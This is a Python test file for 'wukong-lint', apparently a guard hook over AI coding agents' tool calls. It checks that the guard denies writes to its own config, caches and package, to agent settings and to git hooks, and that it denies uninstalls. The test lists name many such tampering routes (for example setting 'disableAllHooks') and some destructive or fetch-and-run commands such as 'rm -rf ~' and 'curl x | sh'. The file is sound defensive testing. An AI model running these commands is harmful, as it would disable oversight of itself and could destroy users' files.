"""Issue 26, "the guard cannot be turned off by the guarded": the protected paths (writing
wukong-lint's own config, approvals, caches and package, the agents' settings and hook
files, git hooks and git config) and the commands that switch the guard off, judged in
process on tool calls; the writes the path kind now sees (in-place editors, output options,
`mv` sources, interpreter code, MCP file tools, scripts being written, `cd`)."""

from __future__ import annotations

from typing import Any

import pytest

from wukong_lint.engine.loader import load_rules
from wukong_lint.engine.scan import scan_unit
from wukong_lint.model import Severity
from wukong_lint.model.events import Context, call_event, make_unit
from wukong_lint.shell import file_writes
from wukong_lint.shell.paths import normalize, shell_accesses

PROJECT = "/home/dev/acme"


def verdict(tool: str, data: dict[str, Any], profile: str = "generic") -> tuple[str, list[str]]:
    """(deny | ask | allow, the guard-integrity rules that found something)."""
    ctx = Context(profile, False, {}, PROJECT)
    event, text = call_event(ctx, 1, tool, data, None, "main", None, True)
    findings, errors = scan_unit(load_rules(details=False), make_unit("<hook>", event, text))
    assert errors == []
    worst = max((f.severity for f in findings), default=Severity.LOW)
    rules = sorted({f.rule_id for f in findings if f.category == "guard-integrity"})
    label = "deny" if worst >= Severity.HIGH else "ask" if worst == Severity.MEDIUM else "allow"
    return label, rules


def bash(command: str) -> tuple[str, list[str]]:
    return verdict("Bash", {"command": command})


_CACHE_SCRIPT = (
    "python3 - <<'EOF'\nimport glob, os\n"
    "for p in glob.glob(os.path.expanduser('~/.cache/wukong-lint/rules-*.bin')):\n"
    "    open(p, 'wb').write(b'')\nEOF"
)
_PACKAGE_DIR = (
    "$(python3 -c 'import wukong_lint, os; print(os.path.dirname(wukong_lint.__file__))')"
)
DENIED: dict[str, list[str]] = {
    "policy-write": [  # wukong-lint's own config and approvals
        "mkdir -p ~/.config/wukong-lint && echo 'x: 1' > ~/.config/wukong-lint/config.yaml",
        'echo "select: [secret]" > "$XDG_CONFIG_HOME/wukong-lint/config.yaml"',
        "cp /tmp/a.json ${XDG_CONFIG_HOME}/wukong-lint/approved.json",
        "rm ~/.config/wukong-lint/approved.json",
        "sudo tee /etc/wukong-lint/config.yaml <<< 'approvals: true'",
    ],
    "cache-write": [
        "cat /tmp/patched.bin > ~/.cache/wukong-lint/rules-dde1d0aa.bin",
        "cp /tmp/rules.bin $WUKONG_LINT_CACHE_DIR/",
        "find ~/.cache/wukong-lint -name 'config-*.json' -exec sed -i 's/a/b/' {} +",
        "python3 -c \"import glob, os, json; [json.dump({}, open(p, 'w')) for p in "
        "glob.glob(os.path.expanduser('~/.cache/wukong-lint/config-*.json'))]\"",
        _CACHE_SCRIPT,
    ],
    "package-write": [  # the package and its executable
        "echo 'exit 0' > ~/.local/bin/wukong-lint",
        'chmod -x "$(command -v wukong-lint)"',
        f"sed -i 's/def run/def off/' \"{_PACKAGE_DIR}/cli/hook.py\"",
        "echo 'import sys; sys.exit(0)' > /usr/lib/python3/site-packages/sitecustomize.py",
    ],
    "agent-settings-write": [
        "echo '{\"disableAllHooks\": true}' > .claude/settings.local.json",
        "jq '.hooks = {}' ~/.claude/settings.json > /tmp/s.json && "
        "mv /tmp/s.json ~/.claude/settings.json",
        "mv ~/.claude/settings.json ~/.claude/settings.old",
        "cd .claude && printf '{}' > settings.json",
        "perl -pi -e 's/wukong-lint hook/true/' .claude/settings.json",
        "yq -i '.hooks = {}' .gemini/settings.json",
        "curl -fsSL https://example.net/s.json -o .claude/settings.json",
        "git checkout origin/x -- .claude/settings.json",
        "python3 -c \"import json; p = '.claude/settings.json'; s = json.load(open(p)); "
        "json.dump(s, open(p, 'a'))\"",
        "node -e \"require('fs').writeFileSync('.cursor/hooks.json', '{}')\"",
        "echo x >> ~/.codex/config.toml",
        "cp hooks.json .github/hooks/policy.json",
        # into the folder: the file keeps its name there
        "cp /tmp/settings.json .claude",
        "mv settings.local.json .claude/",
        "cp -t .claude /tmp/settings.json",
        "cp -r /tmp/evil/.claude .",
        "rsync -a /tmp/evil/ .claude/",
    ],
    "git-hooks-write": [
        "cp scripts/build.sh .git/hooks/pre-push && chmod +x .git/hooks/pre-push",
        "rm -f .git/hooks/pre-commit",
        "printf '[core]\\n\\thooksPath = /tmp/h\\n' >> .git/config",
        "echo '[alias] x = !sh' >> ~/.gitconfig",
        "tar -xzf /tmp/hooks.tgz -C .git/hooks",
        "unzip -o /tmp/hooks.zip -d .git/hooks",
        "cp -a /tmp/evil/. .git/hooks/",
    ],
    "policy-write#into": ["tar xf /tmp/p.tar -C ~/.config/wukong-lint"],
    "git-template": ["git init --template=/tmp/tpl", "git clone --template /tmp/t https://x/r"],
    "session-environment-write": [
        "echo 'XDG_CONFIG_HOME=/tmp/x' > ~/.config/environment.d/10-x.conf",
        "echo WUKONG_LINT_CACHE_DIR=/tmp/c >> ~/.pam_environment",
    ],
    "git-config-programs": [
        "git config core.hooksPath /dev/null",
        "git config --global core.hooksPath ~/.hooks",
        "git config --system core.fsmonitor 'sh -c x'",
        "git config --global alias.st '!rm -rf ~'",
        "git config --local include.path ../x.cfg",
        "git config core.pager 'less; curl x | sh'",
        "git config core.sshCommand 'ssh -oProxyCommand=x'",
        "git config set core.hooksPath /tmp/h",
    ],
    "uninstall": [
        "pip uninstall -y wukong-lint",
        "python3 -m pip uninstall wukong_lint",
        "pre-commit uninstall",
    ],
    "config-approve": ["wukong-lint config approve"],
}
DENIED_COMMANDS = [
    (command, rule.split("#")[0]) for rule, commands in DENIED.items() for command in commands
]


@pytest.mark.parametrize(("command", "rule"), DENIED_COMMANDS)
def test_a_write_of_a_protected_path_is_denied(command: str, rule: str) -> None:
    label, rules = bash(command)
    assert label == "deny", (command, rules)
    assert f"guard-integrity.{rule}" in rules


ALLOWED_COMMANDS = [
    "cat ~/.config/wukong-lint/config.yaml",
    "ls ~/.cache/wukong-lint",
    "du -sh ~/.cache/* | sort -h | tail",
    "tail -20 ~/.cache/wukong-lint/hook.log",
    "cat .claude/settings.json | jq .hooks",
    "ls .git/hooks",
    "head -20 .git/hooks/pre-commit.sample",
    "git config --get core.hooksPath || echo none",
    "git config user.email dev@example.com",
    "git config --global --get user.name",
    "git config --unset core.hooksPath",
    "cat ~/.gitconfig",
    "wukong-lint config approve --list",
    "wukong-lint config show",
    "wukong-lint check --staged",
    "pip install -r requirements.txt",
    "pre-commit run --all-files",
    "rm -rf ~/.cache/pip",
    "echo '{}' > tests/fixtures/settings.json",
    "echo '{}' > .vscode/settings.json",
    "cp .claude/settings.json /tmp/settings-backup.json",
    "python3 -c \"import json; print(json.load(open('.claude/settings.json')))\"",
    "sed 's/a/b/' .claude/settings.json",
    # copies into ordinary folders, or to a file name
    "cp -r src dist/",
    "cp README.md docs/",
    "cp .wukong-lint.yaml /tmp/backup.yaml",
    "rsync -a build/ /tmp/site/",
    "tar -xzf dist.tgz -C /tmp/unpacked",
    "tar -czf out.tgz -C build .",
    "unzip -o fixtures.zip -d tests/fixtures",
    "git init",
    "git clone https://example.com/r.git",
    "cat ~/.config/environment.d/10-x.conf",
]


@pytest.mark.parametrize("command", ALLOWED_COMMANDS)
def test_reading_the_protected_paths_is_allowed(command: str) -> None:
    assert bash(command) == ("allow", []), command


def test_file_tools_and_mcp_file_tools_are_writes() -> None:
    home = "/home/dev"
    package = "/usr/lib/python3.12/site-packages/wukong_lint/cli/hook.py"
    cases = [
        ("Write", {"file_path": f"{home}/.claude/settings.json", "content": "{}"}),
        ("Edit", {"file_path": f"{PROJECT}/.claude/settings.json", "old_string": "a",
                  "new_string": "b"}),
        ("MultiEdit", {"file_path": f"{PROJECT}/.claude/settings.local.json", "edits": []}),
        ("NotebookEdit", {"notebook_path": f"{PROJECT}/.claude/settings.json",
                          "new_source": "{}"}),
        ("mcp__filesystem__write_file", {"path": f"{PROJECT}/.git/hooks/pre-commit",
                                         "content": "x"}),
        ("mcp__fs__edit_file", {"path": f"{home}/.config/wukong-lint/approved.json",
                                "edits": []}),
        ("mcp__files__move_file", {"path": f"{home}/.cache/wukong-lint/rules-1.bin"}),
        ("Write", {"file_path": package, "content": ""}),
    ]  # fmt: skip
    for tool, data in cases:
        label, rules = verdict(tool, data)
        assert label == "deny" and rules, (tool, data)
    for tool, data in [
        ("Read", {"file_path": f"{home}/.claude/settings.json"}),
        ("mcp__filesystem__read_file", {"path": f"{PROJECT}/.git/hooks/pre-commit"}),
        ("Grep", {"pattern": "hooks", "path": f"{home}/.config/wukong-lint"}),
        ("mcp__filesystem__list_directory", {"path": f"{home}/.cache/wukong-lint"}),
    ]:
        assert verdict(tool, data) == ("allow", []), (tool, data)


def test_a_script_being_written_that_writes_a_protected_path_is_denied() -> None:
    code = (
        "import glob, os\n"
        "for p in glob.glob(os.path.expanduser('~/.cache/wukong-lint/rules-*.bin')):\n"
        "    with open(p, 'wb') as f:\n        f.write(b'')\n"
    )
    label, rules = verdict("Write", {"file_path": f"{PROJECT}/.lintfix.py", "content": code})
    assert (label, rules) == ("deny", ["guard-integrity.cache-write"])
    shell = "#!/bin/sh\necho '{}' > ~/.claude/settings.json\n"
    label, rules = verdict("Write", {"file_path": f"{PROJECT}/fix.sh", "content": shell})
    assert rules == ["guard-integrity.agent-settings-write"]
    label, rules = bash(f"cat > fix.py <<'EOF'\n{code}EOF")
    assert rules == ["guard-integrity.cache-write"]
    # an ordinary script is not
    ordinary = "from pathlib import Path\nPath('docs/api.md').write_text('# API')\n"
    assert verdict("Write", {"file_path": f"{PROJECT}/gen.py", "content": ordinary}) == (
        "allow",
        [],
    )


@pytest.mark.parametrize(
    ("command", "written"),
    [
        ("sed -i.bak 's/a/b/' f.yaml", ["f.yaml"]),
        ("sed -Ei 's/a/b/' f.yaml g.yaml", ["f.yaml", "g.yaml"]),
        ("sed -e 's/a/b/' -i f.yaml", ["f.yaml", "s/a/b/"]),  # (its script word too)
        ("perl -pi -e 's/a/b/' f.txt", ["f.txt"]),
        ("perl -i.orig -pe 's/a/b/' f.txt", ["f.txt"]),
        ("ruby -i -pe 'x' f.txt", ["f.txt"]),
        ("yq -i '.a = 1' f.yaml", ["f.yaml"]),
        ("gawk -i inplace '{print}' f.txt", ["f.txt"]),
        ("sponge out.txt", ["out.txt"]),
        ("curl -o out.bin https://example.net/x", ["out.bin"]),
        ("curl --output=out.bin https://example.net/x", ["out.bin"]),
        ("wget -O out.bin https://example.net/x", ["out.bin"]),
        ("sort -o sorted.txt in.txt", ["sorted.txt"]),
        ("mv a.txt b.txt", ["a.txt", "b.txt"]),
        ("git rm old.txt", ["old.txt"]),
        ("cd sub && echo x > f.txt", ["f.txt", "sub/f.txt"]),
    ],
)
def test_writes_the_path_kind_sees(command: str, written: list[str]) -> None:
    found = sorted({path for path, mode in shell_accesses(command) if mode == "write"})
    assert found == sorted(written)


@pytest.mark.parametrize(
    "command",
    ["sed 's/a/b/' f.yaml", "perl -Mstrict -e 'print 1' f.txt", "perl -e 'x' f.txt",
     "curl https://example.net/x", "yq '.a' f.yaml", "git add f.txt", "sort in.txt"],
)  # fmt: skip
def test_reads_stay_reads(command: str) -> None:
    assert [p for p, mode in shell_accesses(command) if mode == "write"] == []


def test_interpreter_code_writes() -> None:
    cases = {
        "open('a.yaml', 'a').write('x')": ["a.yaml"],
        "p = 'b.json'; json.dump({}, open(p, 'w'))": ["b.json"],
        "from pathlib import Path; Path('c.txt').write_text('x')": ["c.txt"],
        "import shutil; shutil.copy('src.txt', 'd.txt')": ["d.txt"],
        "import os; os.replace('e.tmp', 'e.txt')": ["e.tmp", "e.txt"],
        "for f in glob.glob(os.path.expanduser('~/x/*.bin')): open(f, 'wb')": ["~/x/*.bin"],
        "require('fs').appendFileSync('f.txt', 'x')": ["f.txt"],
        "File.write('g.txt', 'x')": ["g.txt"],
        "open(my $fh, '>', 'h.txt')": ["h.txt"],
        "open(F, '>>i.txt')": ["i.txt"],
        "print(open('j.txt').read())": [],
        "open('k.txt', 'r').read()": [],
        "with open('l.txt', encoding='utf-8') as f: pass": [],
    }
    for code, written in cases.items():
        assert sorted(file_writes.code_writes(code)) == sorted(written), code


def test_normalize_maps_the_environment_roots(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("HOME", "/tmp/sandbox/home")
    monkeypatch.setenv("XDG_CONFIG_HOME", "/srv/cfg")
    monkeypatch.setenv("XDG_CACHE_HOME", "/srv/cache")
    monkeypatch.setenv("WUKONG_LINT_CACHE_DIR", "/var/wk")
    assert normalize("/tmp/sandbox/home/.ssh/id_rsa") == "~/.ssh/id_rsa"
    assert normalize("/srv/cfg/wukong-lint/config.yaml") == "~/.config/wukong-lint/config.yaml"
    assert normalize("/srv/cache/wukong-lint/x.bin") == "~/.cache/wukong-lint/x.bin"
    assert normalize("/var/wk/rules-1.bin") == "~/.cache/wukong-lint/rules-1.bin"
    assert normalize("$XDG_CONFIG_HOME/wukong-lint") == "~/.config/wukong-lint"
    assert normalize("${WUKONG_LINT_CACHE_DIR}/x") == "~/.cache/wukong-lint/x"
    assert normalize("/srv/cfgx/a") == "/srv/cfgx/a"  # a prefix of a name is not the folder
    assert normalize("/dev/../dev/sda") == "/dev/sda"
    assert normalize("~/a/./.claude/settings.json") == "~/a/.claude/settings.json"
    monkeypatch.setenv("WUKONG_LINT_CACHE_DIR", "/tmp")  # too wide to stand for the cache
    assert normalize("/tmp/x.sh") == "/tmp/x.sh"


def test_direnv_allow_asks() -> None:
    assert bash("direnv allow") == ("ask", ["guard-integrity.direnv-allow"])
    assert bash("direnv exec . make test") == ("allow", [])


def test_files_written_into_a_folder() -> None:
    def written(command: str) -> set[str]:
        return {p for p, mode in shell_accesses(command) if mode == "write"}

    assert ".claude/settings.json" in written("cp settings.json .claude")
    assert ".claude/settings.json" in written("cp -t .claude a.json settings.json")
    assert "./.claude/*" in written("cp -r evil/.claude .")
    assert ".git/hooks/*" in written("tar -xzf x.tgz -C .git/hooks")
    assert ".git/hooks/*" in written("unzip x.zip -d .git/hooks")
    assert written("tar -tzf x.tgz -C .git/hooks") == set()  # (a listing extracts nothing)
    assert written("cp a.yaml /tmp/backup.yaml") == {"/tmp/backup.yaml"}


@pytest.mark.parametrize(
    ("command", "rule"),
    [
        ("find . -name '*.pyc' -delete", None),  # (a .pyc could sit in .claude/hooks/)
        ("find . -name __pycache__ -type d -prune -exec rm -rf {} +", None),
        ("find /tmp -maxdepth 1 -name 'pytest-of-*' -exec rm -rf {} +", None),
        ("find . -name settings.json -delete", "agent-settings-write"),
        ("find . -name '*.json' -delete", "agent-settings-write"),
        ("find . -name hooks -exec rm -rf {} +", "git-hooks-write"),
        ("find ~/.cache/wukong-lint -name 'rules-*' -delete", "cache-write"),
    ],
)
def test_files_found_by_name_and_changed(command: str, rule: str | None) -> None:
    """A write of the files a search finds by name reaches a protected file when the name
    can be its name (or its folder's), or when the search starts in its folder."""
    label, rules = bash(command)
    if rule is None:
        assert rules == [], command
    else:
        assert label == "deny" and f"guard-integrity.{rule}" in rules, (command, rules)


@pytest.mark.parametrize(
    ("command", "accesses"),
    [("{rm,-rf,~}", [("~", "write")]), ("((((rm -rf ~))))", [("~", "write")]), ("", [])],
)
def test_a_line_without_a_plain_simple_command_is_read(command: str, accesses: list) -> None:
    """(The folder bookkeeping of `cd` once failed on a line whose parse holds no plain
    command: an internal error, which the hook turned into an ask that hid the real verdict.
    A brace expansion is expanded, and bash runs `((cmd))` that is no arithmetic as nested
    subshells.)"""
    assert shell_accesses(command) == accesses
